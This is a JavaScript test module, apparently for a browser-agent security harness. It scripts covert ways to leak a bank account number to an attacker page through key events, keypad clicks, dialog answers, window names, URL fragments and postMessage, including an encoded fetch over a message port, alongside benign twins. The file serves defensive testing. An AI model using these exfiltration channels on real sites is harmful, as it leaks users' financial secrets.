// Groups 1 and 6 by what reaches a page though it is put into no field: keys alone, a keypad's buttons, an answer to its question,
// its window's name, its fragment, messages of any kind. By Playwright's hands. Each has an honest twin that must go on working.
import { until } from '../agents/tasks.mjs';
import { urlOf } from '../sites/world.mjs';

const at = (path) => urlOf('attacker', path);
const digitsOf = ({ secrets }) => secrets['account number'].replaceAll(' ', '');
const protocolOf = ({ page }) => page.context().newCDPSession(page);

/** @param make the events of one digit */
async function strike(hands, digits, make) {
  const protocol = await protocolOf(hands);
  for (const digit of digits) for (const event of make(digit)) await protocol.send('Input.dispatchKeyEvent', event);
  await hands.wait(600);
}

const byNumber = (digit) => {
  const key = { code: `Digit${digit}`, windowsVirtualKeyCode: digit.charCodeAt(0) };
  return [
    { type: 'rawKeyDown', ...key },
    { type: 'keyUp', ...key },
  ];
};

const SOON_MS = 4_000;
const answer = (hands, text) => hands.page.once('dialog', (dialog) => dialog.accept(text));

/** A page of the attacker's that the bank's page, or a script in it, has opened; it is soon there, or it was refused. */
async function popup(hands, code) {
  const opened = hands.page.waitForEvent('popup', { timeout: SOON_MS });
  await hands.run(`window.other = ${code}; 0`);
  return opened;
}

const KEYS = {
  'keys-let-go-only': (digit) => [{ type: 'keyUp', key: digit }],
  'keys-by-number-only': byNumber,
};

const MESSAGES = {
  'told-as-an-error': "new Error(document.querySelector('#account').textContent)",
  'told-as-a-blob': "new Blob([document.querySelector('#account').textContent])",
  'told-in-a-circle':
    "(() => { const told = { d: document.querySelector('#account').textContent }; told.self = told; return told; })()",
};

const NUMBER = "document.querySelector('#account').textContent.replace(/\\D/g, '')";
/** To a page that puts together what it hears. */
const PIECES = {
  'told-as-a-date': `({ d: new Date(Number(${NUMBER})) })`,
  'told-digit-by-digit': `(() => { const digits = [...${NUMBER}]; const last = digits.pop(); for (const d of digits) opener.postMessage({ d }, '*'); return { d: last }; })()`,
};

const NAMES = {
  'window-named-by-script': (D) => `open('${at('/window')}', ${D})`,
  'window-named-by-a-form': (D) =>
    `(() => { const form = Object.assign(document.createElement('form'), { action: '${at('/window')}', target: ${D} }); document.body.append(form); form.requestSubmit(); })()`,
};

export const waysIn = [
  ...Object.entries(KEYS).map(([id, make]) => ({
    id,
    group: 1,
    async does(scene) {
      await scene.hands.goto(at('/keys-any'));
      await strike(scene.hands, digitsOf(scene), make);
    },
  })),
  {
    id: 'keypad-of-digits',
    group: 1,
    async does(scene) {
      const { hands } = scene;
      await hands.goto(at('/keypad'));
      for (const digit of digitsOf(scene)) await hands.page.getByRole('button', { name: digit, exact: true }).click();
      await hands.wait(600);
    },
  },
  {
    id: 'answered-to-a-question',
    group: 1,
    async does({ hands, secrets }) {
      await hands.goto(at('/question'));
      answer(hands, secrets['account number']);
      await hands.click({ button: 'Go on' });
      await hands.wait(600);
    },
  },
  ...Object.entries(NAMES).map(([id, code]) => ({
    id,
    group: 6,
    async does({ hands }) {
      await popup(hands, code("document.querySelector('#account').textContent"));
      await hands.wait(1_500);
    },
  })),
  {
    id: 'fragment-of-a-window',
    group: 6,
    async does({ hands }) {
      const opened = await popup(hands, `open('${at('/fragments')}')`);
      await opened.waitForURL(/fragments/, { timeout: SOON_MS });
      await hands.wait(1_500);
      await hands.run(
        `other.location.replace('${at('/fragments')}#' + document.querySelector('#account').textContent)`,
      );
      await hands.wait(800);
    },
  },
  {
    id: 'fragment-by-the-agent',
    group: 6,
    async does({ hands, secrets }) {
      await hands.goto(at('/fragments'));
      await hands.goto(at(`/fragments#${encodeURIComponent(secrets['account number'])}`)).catch(() => undefined);
      await hands.wait(800);
    },
  },
  ...[...Object.entries(MESSAGES), ...Object.entries(PIECES)].map(([id, message]) => ({
    id,
    group: 6,
    async does({ hands }) {
      await hands.goto(at(Object.hasOwn(PIECES, id) ? '/hearing-pieces' : '/hearing-any'));
      const opened = hands.page.waitForEvent('popup');
      await hands.click({ button: 'Open your bank' });
      const bank = await opened;
      await bank.waitForSelector('#account');
      await hands.wait(500);
      await bank.evaluate(`opener.postMessage(${message}, '*')`);
      await hands.wait(800);
    },
  })),
  {
    id: 'told-over-a-port',
    group: 6,
    async does({ hands }) {
      await hands.goto(at('/hearing-any'));
      await hands.run(
        "addEventListener('message', ({ ports: [port] }) => { if (port) port.onmessage = ({ data }) => fetch('/told?d=' + [...data].map((c) => (c.charCodeAt(0) + 77).toString(36)).join('.')); }); 0",
      );
      const opened = hands.page.waitForEvent('popup');
      await hands.click({ button: 'Open your bank' });
      const bank = await opened;
      await bank.waitForSelector('#account');
      await bank.evaluate(
        "{ const { port1, port2 } = new MessageChannel(); opener.postMessage({}, '*', [port2]); port1.postMessage(document.querySelector('#account').textContent); }",
      );
      await hands.wait(800);
    },
  },
];

export const CLUB = 'club.example';

/** Says what it heard, in every way there is. */
export const CLUB_BODY = `<h1>Club</h1>${[...'0123456789'].map((digit) => `<button class="d">${digit}</button>`).join('')}
<button onclick="say(prompt('Your name?'))">Sign up</button><button onclick="other = open('http://${CLUB}/?away', 'garden')">Open</button><p id="out"></p><script>
let seen = ''; let other;
const say = (text) => { seen += text; out.textContent = seen; };
for (const b of document.querySelectorAll('.d')) b.onclick = () => say(b.textContent);
addEventListener('keydown', (e) => say(e.key));
addEventListener('keyup', (e) => say(e.key));
addEventListener('hashchange', () => say(location.hash));
addEventListener('message', ({ data }) => {
  say(data instanceof Error ? data.message : data instanceof Blob ? ' ' + data.size + ' bytes' : data);
  if (data instanceof Blob) data.text().then(say);
});
if (name) say('I am ' + name);</script>`;

const club = `http://${CLUB}/`;
const says = (hands, text) => until(async () => (await hands.read()).includes(text), `a page that says ${text}`);

/** `{id, does(scene)}`; each throws when the work wasn't completed. */
export const honestWaysIn = [
  {
    id: 'keys-a-page-listens-to',
    async does({ hands }) {
      await hands.goto(club);
      await strike(hands, '42', (digit) => [
        { type: 'keyDown', key: digit },
        { type: 'keyUp', key: digit },
      ]);
      await says(hands, '4422');
    },
  },
  {
    id: 'a-keypad-of-digits',
    async does({ hands }) {
      await hands.goto(club);
      for (const digit of '24681357') await hands.page.getByRole('button', { name: digit, exact: true }).click();
      await says(hands, '24681357');
    },
  },
  {
    id: 'an-answer-to-a-question',
    async does({ hands }) {
      await hands.goto(club);
      answer(hands, 'Rose');
      await hands.click({ button: 'Sign up' });
      await says(hands, 'Rose');
    },
  },
  {
    id: 'a-window-with-a-name',
    async does({ hands }) {
      await hands.goto('http://friend.example/');
      const opened = await popup(hands, `open('${club}', 'garden')`);
      await opened.waitForSelector('h1');
      await until(async () => (await opened.textContent('#out')).includes('I am garden'), 'a window with a name');
      await opened.close();
    },
  },
  {
    id: 'a-fragment-and-back',
    async does({ hands }) {
      await hands.goto(club);
      await hands.goto(`${club}#roses`);
      await says(hands, '#roses');
      await hands.run("location.hash = 'lilies'; 0");
      await says(hands, '#roses#lilies');
      await hands.page.goBack();
      await says(hands, '#roses#lilies#roses');
    },
  },
  {
    id: 'messages-of-any-kind',
    async does({ hands }) {
      await hands.goto('http://friend.example/');
      const opened = await popup(hands, `open('${club}')`);
      await opened.waitForSelector('h1');
      await hands.wait(500);
      await opened.evaluate(
        "addEventListener('message', ({ ports: [port] }) => { if (port) port.onmessage = ({ data }) => { out.textContent += data; port.postMessage(' thanks'); }; }); 0",
      );
      await hands.run(
        "{ const { port1, port2 } = new MessageChannel(); port1.onmessage = ({ data }) => { document.title += data; }; other.postMessage(1, '*', [port2]); port1.postMessage(' asters'); }",
      );
      await until(async () => (await hands.run('document.title')).includes(' thanks'), 'an answer over a port');
      await opened.evaluate("out.textContent = ''; 0");
      await hands.run(
        "other.postMessage(new Error('too few'), '*'); other.postMessage(new Blob([' roses']), '*'); other.postMessage(' in May', '*')",
      );
      await until(
        async () => (await opened.textContent('#out')).includes('too few 6 bytes in May roses'),
        'messages of any kind',
      );
      await opened.close();
    },
  },
];
